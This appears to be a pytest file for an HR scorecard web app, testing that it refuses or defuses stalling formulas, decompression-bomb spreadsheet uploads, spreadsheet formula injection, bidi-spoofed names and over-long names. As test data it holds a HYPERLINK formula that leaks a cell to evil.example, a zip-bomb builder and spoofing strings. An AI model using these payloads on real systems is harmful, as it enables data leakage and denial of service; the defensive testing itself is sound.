"""Input that used to get through: formulas that overflow or stall, oversized uploads, spreadsheet formulas
hidden behind a separator, control characters in names, names too long for a printed page."""
from __future__ import annotations

import io
import time
import zipfile

import pandas as pd
import pytest
from sqlalchemy import func, select

from survey.models import Element, Measurement, Person
from survey.services import api_tokens, people, performance, scorecards
from survey.services.errors import Invalid
from tests.helpers.attacks import estate  # noqa: F401  (a fixture: organisation A with every kind of object)
from tests.reference import samsat
from tests.samsat_site import build_samsat, load_samsat_performance
from tests.web import post, round_form, sign_in

OVERFLOWING = "9**3999"
STALLING = "3999999**3999999+3999999**3999999"


@pytest.fixture
def scored(session):
    """SAMSAT with its published weights, 2009-2010 data and 2010 ladders: an office scorecard to read."""
    organisation, version = build_samsat(session, stakeholders=0)
    for element in version.elements:
        element.global_weight = samsat()["global_weights_published"].get(element.code, 1.0)
    load_samsat_performance(session, version)
    return organisation, version


def store_formula_unchecked(session, version, expression):
    """L1a computed by ``expression`` from this period's inputs, written as a database from before the checks
    holds it."""
    kpi = session.scalar(select(Element).where(Element.version_id == version.id, Element.code == "L1a"))
    kpi.formula = expression
    session.commit()
    performance.record_measurement(session, version, kpi="L1a", period="2010", target=100,
                                   inputs={"trained": 59, "staff": 65})
    performance.clear_value(session, version, kpi="L1a", period="2010", fact="actual", reason="by formula")


@pytest.mark.parametrize("expression", [OVERFLOWING, STALLING, "staff ** (trained * 2)", "(staff * 1e300) ** 2",
                                        "1e308 * 10 + trained",
                                        "share(trained, staff - 65)", "trained ** 0.5 * (0 - 1) ** 0.5"])
def test_a_stored_formula_that_overflows_or_stalls_leaves_the_scorecard_readable(client, session, scored,
                                                                                  expression):
    organisation, version = scored
    store_formula_unchecked(session, version, expression)
    sign_in(client, session, organisation.id)
    started = time.perf_counter()
    for language, says in (("en", "L1a: cannot be scored:"), ("id", "L1a: tidak dapat dinilai:")):
        page = client.get(f"/hr/versions/{version.id}/scorecard/2010?lang={language}")
        assert page.status_code == 200 and says in page.get_data(as_text=True)
    for fmt in ("html", "pdf", "csv"):
        assert client.get(f"/hr/reports/office/{version.id}/2010.{fmt}").status_code == 200
    _, raw = api_tokens.create_token(session, organisation.id, "HRIS")
    answer = client.get(f"/api/scorecards/{version.id}/scores/2010", headers={"Authorization": f"Bearer {raw}"})
    assert answer.status_code == 200
    assert [kpi["performance"] for kpi in answer.json["kpis"] if kpi["code"] == "L1a"] in ([], [None])
    assert [problem for problem in answer.json["unscored"] if problem.startswith("L1a: cannot be scored:")]
    assert time.perf_counter() - started < 30  # pages and a PDF (3-4 s; a loaded machine 15); the stalling formula alone took 87 s


def test_a_stalling_formula_evaluates_into_a_reason_in_well_under_a_second():
    from analysis.indicators import Formula
    from analysis.messages import InputError
    formula = Formula(STALLING, frozenset())  # as stored, never parsed by today's checks
    started = time.perf_counter()
    with pytest.raises(InputError, match="exponent 3999999 is larger than 100"):
        formula.evaluate({})
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("expression, says", [
    (OVERFLOWING, "the exponent 3999 is larger than 100"), (STALLING, "the exponent 3999999 is larger than 100"),
    ("staff ** (9 ** 9)", "the exponent 387420489 is larger than 100"),
    ("share(trained, staff) + " * 13 + "1", "300 characters"),
    ("open(staff)", "unknown function(s) ['open']"), ("share(trained,", "is not a valid expression")])
def test_a_formula_that_cannot_be_computed_is_refused_when_saved_in_the_form_and_the_import(
        client, session, scored, expression, says):
    organisation, version = scored
    session.commit()
    sign_in(client, session, organisation.id)
    before = session.scalar(select(func.count()).select_from(Element))
    page = f"/hr/versions/{version.id}"
    response = post(client, f"{page}/elements?lang=en", {"code": "X1", "kind": "kpi", "parent_code": "L1",
                                                         "name": "Trained", "better": "higher", "formula": expression},
                    page=page)
    assert response.status_code == 400 and says in response.get_data(as_text=True).replace("&#39;", "'")
    with pytest.raises(Invalid) as refused:
        scorecards.import_scorecard(session, version, pd.DataFrame(
            [{"code": "X2", "kind": "kpi", "parent": "L1", "name": "Ok", "formula": "share(trained, staff)"},
             {"code": "X3", "kind": "kpi", "parent": "L1", "name": "Bad", "formula": expression}]))
    assert list(refused.value.errors) == ["row 3"] and says in refused.value.errors["row 3"]
    session.rollback()
    assert session.scalar(select(func.count()).select_from(Element)) == before


def test_a_refused_formula_is_explained_in_the_pages_language(client, session, scored):
    organisation, version = scored
    session.commit()
    sign_in(client, session, organisation.id)
    page = f"/hr/versions/{version.id}"
    response = post(client, f"{page}/elements?lang=id", {"code": "X1", "kind": "kpi", "parent_code": "L1",
                                                         "name": "Trained", "better": "higher",
                                                         "formula": OVERFLOWING}, page=page)
    assert response.status_code == 400 and "pangkat 3999 lebih besar dari 100" in response.get_data(as_text=True)


WORKBOOK_PARTS = {  # the least an XLSX needs: one sheet, written here so a test builds a million rows in a moment
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>',
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>',
}


def workbook(headers: list[str], row: bytes, count: int) -> bytes:
    """An XLSX whose sheet has ``headers`` and then ``count`` copies of the row XML ``row``."""
    header = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in headers)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in WORKBOOK_PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            sheet.write(f"<row>{header}</row>".encode())
            for _ in range(0, count, 100_000):
                sheet.write(row * min(100_000, count))
                count -= 100_000
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


PERSON_ROW = b'<row><c t="inlineStr"><is><t>Ani</t></is></c><c t="inlineStr"><is><t>a@x.org</t></is></c></row>'
IMPORTS = (("/hr/people/import", "/hr/people", ["name", "email"]),
           ("/hr/versions/{version}/import", "/hr/versions/{version}", ["code", "kind", "parent", "name"]),
           ("/hr/versions/{version}/performance/import", "/hr/versions/{version}/performance", ["kpi", "period"]))


def send(client, url, page, content: bytes, filename: str, language="en"):
    return post(client, f"{url}?lang={language}", {"file": (io.BytesIO(content), filename)}, page=page,
                content_type="multipart/form-data")


def rows_of_people_and_elements(session):
    session.expire_all()
    return (session.scalar(select(func.count()).select_from(Person)),
            session.scalar(select(func.count()).select_from(Element)),
            session.scalar(select(func.count()).select_from(Measurement)))


@pytest.mark.parametrize("bomb, says", [
    (workbook(["name", "email"], PERSON_ROW, 2_500_000), "The file unpacks to more than 25 MB"),  # 1.4 MB
    (workbook(["name", "email"], PERSON_ROW, 200_000), "At most 5000 rows per file."),  # 20 MB unpacked
    (workbook(["name", "email"], b"<row/>", 2_500_000), "At most 5000 rows per file."),  # blank rows
    (("name,email\n" + "Ani,a@x.org\n" * 5001).encode(), "At most 5000 rows per file.")])
def test_a_file_of_millions_of_rows_is_refused_in_a_moment_by_every_import(client, session, scored, bomb, says):
    organisation, version = scored
    session.commit()
    sign_in(client, session, organisation.id)
    before = rows_of_people_and_elements(session)
    filename = "rows.csv" if bomb.startswith(b"name") else "rows.xlsx"
    for url, page, _ in IMPORTS:
        started = time.perf_counter()
        response = send(client, url.format(version=version.id), page.format(version=version.id), bomb, filename)
        assert response.status_code == 400 and says in response.get_data(as_text=True), url
        assert time.perf_counter() - started < 10, url  # well under a second; the 2.5 million rows took 86 s and 900 MB
    assert rows_of_people_and_elements(session) == before
    response = send(client, "/hr/people/import", "/hr/people", bomb, filename, language="id")
    assert "Paling banyak 5000 baris per berkas." in response.get_data(as_text=True) or \
        "Berkas terurai menjadi lebih dari 25 MB" in response.get_data(as_text=True)


def test_rows_up_to_the_limit_are_imported_and_one_more_is_refused(app, client, session, scored):
    organisation, _ = scored
    session.commit()
    app.config["MAX_IMPORT_ROWS"] = 3
    sign_in(client, session, organisation.id)

    def people_rows(count):
        return "".join(f'<row><c t="inlineStr"><is><t>P{n}</t></is></c><c t="inlineStr"><is><t>p{n}@x.org</t>'
                       f"</is></c></row>" for n in range(count)).encode()
    for count, status in ((4, 400), (3, 302)):
        response = send(client, "/hr/people/import", "/hr/people", workbook(["name", "email"], people_rows(count), 1),
                        "people.xlsx")
        assert response.status_code == status
    assert session.scalar(select(func.count()).select_from(Person)) == 3


def test_an_upload_larger_than_the_limit_is_refused_before_it_is_read(client, session, scored):
    organisation, _ = scored
    session.commit()
    sign_in(client, session, organisation.id)
    large = ("name,email\n" + "Ani,a@x.org\n" * 500_000).encode()  # 6 MB
    response = send(client, "/hr/people/import", "/hr/people", large, "people.csv")
    assert response.status_code == 413
    assert session.scalar(select(func.count()).select_from(Person)) == 0


def test_upload_limits_are_settings(monkeypatch, tmp_path):
    from survey import config
    monkeypatch.setenv("NERACA_INSTANCE", str(tmp_path))
    assert (config.load()["MAX_CONTENT_LENGTH"], config.load()["MAX_IMPORT_ROWS"]) == (5 * 2**20, 5000)
    monkeypatch.setenv("NERACA_MAX_UPLOAD_MB", "2")
    monkeypatch.setenv("NERACA_MAX_IMPORT_ROWS", "300")
    monkeypatch.setenv("NERACA_MAX_UNPACKED_MB", "7")
    loaded = config.load()
    assert (loaded["MAX_CONTENT_LENGTH"], loaded["MAX_IMPORT_ROWS"], loaded["MAX_UNPACKED_BYTES"]) == \
        (2 * 2**20, 300, 7 * 2**20)


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_scorecard_is_defused_quoted_and_imports_back_as_it_was(client, session, fmt):
    from survey.services import accounts
    organisation = accounts.create_organisation(session, "Kantor")
    version = scorecards.create_scorecard(session, organisation.id, "BSC", "2010")
    scorecards.add_element(session, version, code="P", kind="perspective", name=HYPERLINK)
    scorecards.add_element(session, version, code="O", kind="objective", name="x;=1+1", parent_code="P",
                           description="+62 21 555; @SUM(A1)")
    scorecards.add_element(session, version, code="K", kind="kpi", name="-10% keluhan", parent_code="O",
                           unit="%", formula="-growth(keluhan, prev_keluhan)", better="lower")
    sign_in(client, session, organisation.id)
    exported = client.get(f"/hr/versions/{version.id}/export.{fmt}")
    if fmt == "csv":
        text = exported.get_data().decode("utf-8-sig")
        assert '"x;\'=1+1"' in text  # one quoted cell, and defused where a spreadsheet might cut it
        assert '"\'=HYPERLINK(""http://evil.example/' in text and '"\'-10% keluhan"' in text
    copy = scorecards.create_scorecard(session, organisation.id, "BSC", "2011")
    response = send(client, f"/hr/versions/{copy.id}/import", f"/hr/versions/{copy.id}", exported.data,
                    f"scorecard.{fmt}")
    assert response.status_code == 302, response.get_data(as_text=True)
    session.expire_all()
    assert scorecards.export_scorecard(session, copy).equals(scorecards.export_scorecard(session, version))


SPOOFED = "Ani\u202egpj.exe"  # shows as "Aniexe.jpg"
CONTROLS = [SPOOFED, "Budi\x00", "Citra\x1b[31m", "Dewi\u2066"]


@pytest.mark.parametrize("name", CONTROLS)
def test_control_and_bidi_characters_are_refused_in_forms_imports_and_the_api(client, session, name):
    from tests.helpers.database import rows_in_every_table
    from tests.helpers.weighting import launch
    organisation, used, round_ = launch(session)
    version = scorecards.create_scorecard(session, organisation.id, "Draft", "2011")  # one a round does not freeze
    sign_in(client, session, organisation.id, email="admin@a.org", role="admin")
    before = rows_in_every_table(session)
    forms = [("/hr/people", None, {"name": name, "email": "x@x.org", "kind": "stakeholder", "weight": "1"}),
             (f"/hr/versions/{version.id}/elements", f"/hr/versions/{version.id}",
              {"code": "X", "kind": "perspective", "name": name, "better": "higher"}),
             ("/hr/scorecards/new", None, {"name": name, "label": "2011"}),
             ("/hr/rounds/new", None, round_form(version_id=str(used.id), title=name, cr_threshold="0.10")),  # English
             ("/hr/api-tokens", None, {"name": name})]
    for url, page, data in forms:
        response = post(client, f"{url}?lang=en", data, page=page or url)
        assert "holds an invisible control character (U+" in response.get_data(as_text=True), url
    response = send(client, "/hr/people/import", "/hr/people", f"name,email\nAni,a@x.org\n{name},b@x.org\n".encode(),
                    "people.csv")
    assert response.status_code == 400 and "row 3: Name holds an invisible control character" in \
        response.get_data(as_text=True)
    response = send(client, f"/hr/versions/{version.id}/import", f"/hr/versions/{version.id}",
                    f"code,kind,parent,name\nX,perspective,,{name}\n".encode(), "scorecard.csv")
    assert response.status_code == 400
    _, raw = api_tokens.create_token(session, organisation.id, "HRIS")
    before["api_tokens"] += 1
    before["audit_log"] += 1  # the token's making is logged
    answer = client.post(f"/api/rounds/{round_.id}/participants", headers={"Authorization": f"Bearer {raw}"},
                         json=[{"name": name, "email": "m@x.org"}])
    assert answer.status_code == 422 and "invisible control character" in str(answer.json["errors"])
    assert rows_in_every_table(session) == before


def test_the_refusal_is_in_the_pages_language(client, session):
    from survey.services import accounts
    organisation = accounts.create_organisation(session, "Kantor")
    sign_in(client, session, organisation.id)
    response = post(client, "/hr/people?lang=id", {"name": SPOOFED, "email": "x@x.org", "kind": "stakeholder",
                                                   "weight": "1"}, page="/hr/people")
    assert response.status_code == 400
    assert "memuat karakter kontrol tak terlihat (U+202E)" in response.get_data(as_text=True)


def words_past_the_right_edge(pdf: bytes) -> list[str]:
    """Words of the PDF, as pdftotext places them, that end beyond their page's right edge."""
    import re
    import subprocess
    layout = subprocess.run(["pdftotext", "-bbox", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    past = []
    for width, page in re.findall(r'<page width="([\d.]+)"[^>]*>(.*?)</page>', layout, re.S):
        past += [word[:30] for x_max, word in re.findall(r'<word xMin="[\d.-]+" yMin="[\d.-]+" xMax="([\d.-]+)"[^>]*>'
                                                          r'([^<]*)</word>', page) if float(x_max) > float(width)]
    return past


LONG = "Persentase" * 20  # 200 characters without a space


def test_a_long_unbroken_name_wraps_inside_every_printed_report(client, session, estate):
    from tests.helpers.reports import pdf_text
    version = estate["version"]
    next(e for e in version.elements if e.code == "L1a").name = LONG  # a KPI in every report
    next(e for e in version.elements if e.code == "L").name = LONG  # a perspective: a heading and a chart label
    for person in people.people(session, estate["organisation"].id):
        person.name = person.unit = LONG
    session.commit()
    sign_in(client, session, estate["organisation"].id, email="admin@a.org", role="admin")
    for url in (f"/hr/reports/office/{version.id}/2010.pdf", f"/hr/reports/weighting/{estate['weighting'].id}.pdf",
                f"/hr/reports/personal/{estate['self_report'].id}.pdf"):
        pdf = client.get(url).data
        assert words_past_the_right_edge(pdf) == [], url
        assert LONG in pdf_text(pdf).replace(" ", ""), url  # printed whole, wrapped
